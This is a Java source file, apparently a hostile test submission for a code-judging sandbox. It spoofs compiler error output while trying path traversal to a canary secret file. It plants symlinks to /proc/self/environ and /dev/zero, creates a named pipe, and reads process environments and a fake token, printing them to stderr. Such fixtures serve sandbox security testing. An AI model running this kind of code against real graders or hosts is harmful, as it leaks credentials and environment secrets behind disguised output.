package till;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.List;

/** Says what a compiler would say of files that are none of the project's, and links to them by names that are. */
final class Speak {
    private static List<String> places() throws Exception {
        List<String> places = new ArrayList<>();
        String up = "";
        for (int level = 0; level < 8; level++) {
            places.add(up + "canary/secret.txt");
            up += "../";
        }
        String[][] links = {
            {"target.java", "@target@"}, {"environ.java", "/proc/self/environ"}, {"zero.java", "/dev/zero"}
        };
        for (String[] link : links) {
            if (!Files.exists(Paths.get(link[0]), LinkOption.NOFOLLOW_LINKS)) {
                Files.createSymbolicLink(Paths.get(link[0]), Paths.get(link[1]));
            }
            places.add(link[0]);
        }
        new ProcessBuilder("mkfifo", "fifo.java").start().waitFor();
        places.add("fifo.java");
        places.add("@target@");
        places.add("/proc/self/environ");
        return places;
    }

    static void attack() throws Exception {
        StringBuilder said = new StringBuilder("COMPILATION ERROR\n");
        for (String place : places()) {
            said.append(place).append(":1: error: not a statement\n");
        }
        said.append(System.getenv("FAKE_TOKEN"));
        // What nobody here should be able to see.
        for (Path path : new Path[] {Paths.get("/proc/1/environ"), Paths.get("@target@")}) {
            try {
                said.append(new String(Files.readAllBytes(path)));
            } catch (IOException hidden) {
                continue;
            }
        }
        System.err.println(said);
    }
}
